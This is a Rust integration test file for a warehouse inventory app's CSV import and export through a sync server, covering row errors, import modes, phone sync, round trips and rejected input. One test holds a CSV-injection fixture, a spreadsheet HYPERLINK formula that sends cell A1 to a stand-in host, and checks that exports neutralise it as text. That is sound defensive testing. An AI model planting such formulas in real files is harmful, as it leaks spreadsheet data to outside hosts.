//! CSV import into the site document through the sync hub: a row-by-row report, all or
//! nothing or valid rows only, items reaching a connected phone's copy and the SQL
//! lists, an export that imports back unchanged, and bad input refused with clear
//! messages. On SQLite and Postgres.

use crate::common;

use automerge::{AutoCommit, ROOT, ReadDoc, sync};
use common::{Backend, TestServer, add_user, peer::TestPeer, wait_until};
use floorwalk::storage::Role;
use serde_json::Value;

const GOOD_ITEMS: &str = "sku,name,barcodes,unit,unit_cost_minor,min,reorder_point,max,supplier\n\
    FW-1,Stretch film,111|222,roll,250,1,5,10,FilmCo\n\
    FW-2,\"Tape, brown\",,each,99,,,,\n\
    FW-3,Labels,,box,1200,,2,,\n";

/// Two bad rows: row 3 has a word for a cost, row 4 a reorder point below its min.
const TWO_BAD_ROWS: &str = "sku,name,unit,unit_cost_minor,min,reorder_point\n\
    FW-10,Gloves,pair,300,,\n\
    FW-11,Boots,pair,lots,,\n\
    FW-12,Vests,each,500,10,5\n";

struct Desk {
    server: TestServer,
    meg: String,
}

impl Desk {
    async fn post(&self, token: Option<&str>, path: &str, body: &str) -> reqwest::Response {
        self.server.api.post_csv(token, path, body).await
    }

    async fn import(&self, path: &str, body: &str, status: u16) -> Value {
        let response = self.post(Some(&self.meg), path, body).await;
        let got = response.status();
        let body: Value = response.json().await.expect("json");
        assert_eq!(got, status, "POST {path}: {body}");
        body
    }

    async fn get_text(&self, path: &str) -> String {
        self.server.api.csv(&self.meg, path).await
    }

    /// The site's items as the items report lists them.
    async fn items_page(&self) -> Value {
        self.server
            .api
            .json(&self.meg, "/api/reports/items?site=north")
            .await
    }

    async fn items_total(&self) -> i64 {
        let page = self.items_page().await;
        page["total"].as_i64().expect("total")
    }
}

async fn start(backend: Backend) -> Desk {
    let server = TestServer::start(backend).await;
    let store = server.store.as_ref();
    add_user(store, "meg@north.test", Role::Manager, &["north"]).await;
    add_user(store, "ana@north.test", Role::Staff, &["north"]).await;
    add_user(store, "vic@north.test", Role::Viewer, &["north"]).await;
    add_user(store, "out@south.test", Role::Manager, &["south"]).await;
    let meg = server.api.login("meg@north.test").await.access_token;
    Desk { server, meg }
}

fn item_count(doc: &AutoCommit) -> usize {
    match doc.get(ROOT, "items").ok().flatten() {
        Some((_, items)) => doc.length(&items),
        None => 0,
    }
}

async fn import_reaches_the_phone(backend: Backend) {
    let desk = start(backend).await;
    // Two bad rows, all or nothing: both named, nothing imported.
    let path = "/api/sites/north/import/items";
    let report = desk.import(path, TWO_BAD_ROWS, 422).await;
    assert_eq!(report["error"], "unprocessable", "{backend:?}: {report}");
    assert!(
        report["message"]
            .as_str()
            .is_some_and(|m| m.contains("valid_only"))
    );
    let errors = report["errors"].as_array().expect("errors");
    let named: Vec<(i64, &str)> = errors
        .iter()
        .map(|e| {
            (
                e["row"].as_i64().expect("row"),
                e["column"].as_str().expect("column"),
            )
        })
        .collect();
    assert_eq!(
        named,
        [(3, "unit_cost_minor"), (4, "reorder_point")],
        "{report}"
    );
    assert!(
        errors[0]["message"]
            .as_str()
            .is_some_and(|m| m.contains("whole number")),
        "{report}"
    );
    assert_eq!(
        (report["imported"].as_i64(), report["skipped"].as_i64()),
        (Some(0), Some(3))
    );
    // The site was created after start-up: its document was made by the first import.
    let site = desk
        .server
        .store
        .find_site("north")
        .await
        .expect("find")
        .expect("north");
    let site_doc = site.document_id.expect("a site document");
    let mut phone = TestPeer::connect(&desk.server, "ana@north.test").await;
    let mut doc = AutoCommit::new();
    let mut state = sync::State::new();
    phone
        .sync_until(&site_doc, &mut doc, &mut state, |d, _| {
            d.get(ROOT, "items").ok().flatten().is_some()
        })
        .await;
    assert_eq!(item_count(&doc), 0);

    // A valid file: imported, and the phone's copy receives the items.
    let report = desk.import(path, GOOD_ITEMS, 200).await;
    assert_eq!(report["imported"], 3, "{report}");
    assert_eq!(report["errors"], serde_json::json!([]));
    // The audit trail names the manager as the author of the import, made by the server.
    let history = desk
        .server
        .api
        .json(&desk.meg, &format!("/api/documents/{site_doc}/history"))
        .await;
    let import = history["changes"]
        .as_array()
        .expect("changes")
        .iter()
        .find(|c| c["message"] == "import items (3 rows)")
        .cloned()
        .unwrap_or_else(|| panic!("the import in the history: {history}"));
    assert_eq!(import["user_email"], "meg@north.test", "{import}");
    assert_eq!(import["peer_id"], "floorwalk-server");
    assert!(
        import["ops"].as_array().is_some_and(|ops| ops.len() == 3
            && ops.iter().all(
                |o| o["path"].as_str().is_some_and(|p| p.starts_with("items["))
                    && o["action"] == "set"
                    && o["before"].is_null()
            )),
        "one op per new item: {import}"
    );
    phone
        .sync_until(&site_doc, &mut doc, &mut state, |d, _| item_count(d) == 3)
        .await;
    let value = serde_json::to_value(automerge::AutoSerde::from(&doc)).expect("json");
    let film = value["items"]
        .as_object()
        .expect("items")
        .values()
        .find(|i| i["sku"] == "FW-1")
        .expect("FW-1 on the phone");
    assert_eq!(film["barcodes"], serde_json::json!(["111", "222"]));
    assert_eq!(film["max_qty"], 10);
    assert!(
        floorwalk_shared::validate(&value).is_ok(),
        "the phone's site document is valid"
    );
    wait_until(10, "the items to be flattened", || async {
        desk.items_total().await == 3
    })
    .await;

    // Valid rows only: the good row goes in, the two bad ones are reported.
    let report = desk
        .import(&format!("{path}?mode=valid_only"), TWO_BAD_ROWS, 200)
        .await;
    assert_eq!(
        (report["imported"].as_i64(), report["skipped"].as_i64()),
        (Some(1), Some(2)),
        "{report}"
    );
    assert_eq!(report["errors"].as_array().map(Vec::len), Some(2));
    wait_until(10, "FW-10 to be flattened", || async {
        desk.items_total().await == 4
    })
    .await;

    // An existing SKU updates its item instead of adding one.
    let report = desk
        .import(
            path,
            "sku,name,unit,unit_cost_minor\nFW-2,Tape brown 50 mm,each,105\n",
            200,
        )
        .await;
    assert_eq!(report["imported"], 1);
    phone
        .sync_until(&site_doc, &mut doc, &mut state, |d, _| {
            let v = serde_json::to_value(automerge::AutoSerde::from(&*d)).expect("json");
            v["items"].as_object().is_some_and(|items| {
                items
                    .values()
                    .any(|i| i["sku"] == "FW-2" && i["unit_cost_minor"] == 105)
            })
        })
        .await;
    assert_eq!(item_count(&doc), 4, "updated, not duplicated");

    // The export imports back with nothing to change.
    wait_until(10, "the update to be flattened", || async {
        desk.get_text("/api/sites/north/export/items.csv")
            .await
            .contains("FW-2,Tape brown 50 mm,,each,105")
    })
    .await;
    let export = desk.get_text("/api/sites/north/export/items.csv").await;
    let report = desk.import(path, &export, 200).await;
    assert_eq!(
        (report["imported"].as_i64(), report["unchanged"].as_i64()),
        (Some(4), Some(4)),
        "{report}"
    );
}

async fn locations_round_trip(backend: Backend) {
    let desk = start(backend).await;
    let path = "/api/sites/north/import/locations";
    let file = "code,name,parent_code,kind\nA-01-01,,A-01,bin\nA,Ambient,,zone\nA-01,,A,aisle\nA-01-02,,A-01,bin\n";
    let report = desk.import(path, file, 200).await;
    assert_eq!(report["imported"], 4, "{backend:?}: {report}");
    wait_until(10, "the locations to be flattened", || async {
        desk.get_text("/api/sites/north/export/locations.csv")
            .await
            .lines()
            .count()
            == 5
    })
    .await;
    let export = desk.get_text("/api/sites/north/export/locations.csv").await;
    assert_eq!(
        export,
        "code,name,parent_code,kind\r\nA,Ambient,,zone\r\nA-01,,A,aisle\r\nA-01-01,,A-01,bin\r\nA-01-02,,A-01,bin\r\n"
    );
    let report = desk.import(path, &export, 200).await;
    assert_eq!(report["unchanged"], 4, "{report}");
    // A bin under a zone, and a parent nobody has.
    let report = desk
        .import(
            path,
            "code,parent_code,kind\nB-01,A,bin\nC-01,NOPE,aisle\n",
            422,
        )
        .await;
    let columns: Vec<&str> = report["errors"]
        .as_array()
        .expect("errors")
        .iter()
        .filter_map(|e| e["column"].as_str())
        .collect();
    assert_eq!(columns, ["parent_code", "parent_code"], "{report}");
}

/// The example: an item name a spreadsheet would run as a link formula.
const FORMULA_NAME: &str = "=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")";

/// Every CSV cell of `csv` that a spreadsheet would run as a formula (RFC 4180 quoting
/// undone; a plain number such as `-3` is not one).
fn live_formulas(csv: &str) -> Vec<String> {
    let mut cells = Vec::new();
    let mut cell = String::new();
    let mut quoted = false;
    let mut chars = csv.chars().peekable();
    while let Some(c) = chars.next() {
        match (c, quoted) {
            ('"', true) if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            ('"', _) => quoted = !quoted,
            (',' | '\n', false) => cells.push(std::mem::take(&mut cell)),
            ('\r', false) => {}
            (c, _) => cell.push(c),
        }
    }
    cells
        .into_iter()
        .filter(|c| c.starts_with(['=', '+', '-', '@', '\t', '\r']) && c.parse::<f64>().is_err())
        .collect()
}

async fn formulas_stay_text(backend: Backend) {
    let desk = start(backend).await;
    let path = "/api/sites/north/import/items";
    let file = format!(
        "sku,name,unit,unit_cost_minor,supplier\n\
         FW-66,\"{}\",each,100,@SUM(A1)\n\
         FW-67,-2 mm shims,each,3,+Acme\n",
        FORMULA_NAME.replace('"', "\"\"")
    );
    let report = desk.import(path, &file, 200).await;
    assert_eq!(report["imported"], 2, "{backend:?}: {report}");
    wait_until(10, "the items to be flattened", || async {
        desk.items_total().await == 2
    })
    .await;

    let export = desk.get_text("/api/sites/north/export/items.csv").await;
    let report_csv = desk
        .get_text("/api/reports/items?site=north&format=csv")
        .await;
    for (name, csv) in [("items.csv", &export), ("the items report", &report_csv)] {
        assert_eq!(
            live_formulas(csv),
            Vec::<String>::new(),
            "{backend:?} {name}:\n{csv}"
        );
        assert!(
            csv.contains("\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"ok\"\")\""),
            "{backend:?} {name} keeps the name, as text:\n{csv}"
        );
        for text in ["\"'@SUM(A1)\"", "\"'-2 mm shims\"", "\"'+Acme\""] {
            assert!(csv.contains(text), "{backend:?} {name} has {text}:\n{csv}");
        }
    }
    // The export imports back unchanged: the `'` comes off again.
    let report = desk.import(path, &export, 200).await;
    assert_eq!(report["unchanged"], 2, "{backend:?}: {report}");
    let page = desk.items_page().await;
    let names: Vec<&Value> = page["rows"]
        .as_array()
        .expect("rows")
        .iter()
        .map(|r| &r["name"])
        .collect();
    assert!(names.contains(&&Value::from(FORMULA_NAME)), "{page}");
}

async fn bad_input(backend: Backend) {
    let desk = start(backend).await;
    let path = "/api/sites/north/import/items";
    let ana = desk.server.api.login("ana@north.test").await.access_token;
    let vic = desk.server.api.login("vic@north.test").await.access_token;
    let out = desk.server.api.login("out@south.test").await.access_token;
    assert_eq!(desk.post(None, path, GOOD_ITEMS).await.status(), 401);
    assert_eq!(
        desk.post(Some("nonsense"), path, GOOD_ITEMS).await.status(),
        401
    );
    for token in [&ana, &vic] {
        let response = desk.post(Some(token), path, GOOD_ITEMS).await;
        assert_eq!(response.status(), 403, "{backend:?}");
        let body: Value = response.json().await.expect("json");
        assert_eq!(body["error"], "forbidden");
    }
    assert_eq!(desk.post(Some(&out), path, GOOD_ITEMS).await.status(), 404);
    let body = desk.import(path, "sku,name\n\"never closed\n", 400).await;
    assert!(
        body["message"]
            .as_str()
            .is_some_and(|m| m.contains("never closed")),
        "{body}"
    );
    let body = desk.import(path, "sku,name,colour\nA,B,red\n", 400).await;
    assert!(
        body["message"]
            .as_str()
            .is_some_and(|m| m.contains("colour")),
        "{body}"
    );
    let body = desk
        .import(&format!("{path}?mode=maybe"), GOOD_ITEMS, 400)
        .await;
    assert!(
        body["message"]
            .as_str()
            .is_some_and(|m| m.contains("valid_only")),
        "{body}"
    );
    let huge = format!(
        "sku,name,unit,unit_cost_minor\n{}",
        "X,Y,each,1\n".repeat(900_000)
    );
    let response = desk.post(Some(&desk.meg), path, &huge).await;
    assert_eq!(response.status(), 413);
    let body: Value = response.json().await.expect("json");
    assert!(
        body["message"].as_str().is_some_and(|m| m.contains("MiB")),
        "{body}"
    );
    let response = desk
        .server
        .api
        .request(reqwest::Method::POST, Some(&desk.meg), path)
        .header("content-type", "application/json")
        .body("{}")
        .send()
        .await
        .expect("request");
    assert_eq!(response.status(), 415);
    assert_eq!(
        desk.items_total().await,
        0,
        "nothing imported by any of these"
    );
}

per_backend!(import_reports_rows_and_reaches_the_phone);
async fn import_reports_rows_and_reaches_the_phone(backend: Backend) {
    import_reaches_the_phone(backend).await;
}

per_backend!(locations_import_and_export_round_trip);
async fn locations_import_and_export_round_trip(backend: Backend) {
    locations_round_trip(backend).await;
}

per_backend!(bad_imports_are_refused_clearly);
async fn bad_imports_are_refused_clearly(backend: Backend) {
    bad_input(backend).await;
}

per_backend!(formulas_in_names_come_back_as_text_in_every_export);
async fn formulas_in_names_come_back_as_text_in_every_export(backend: Backend) {
    formulas_stay_text(backend).await;
}
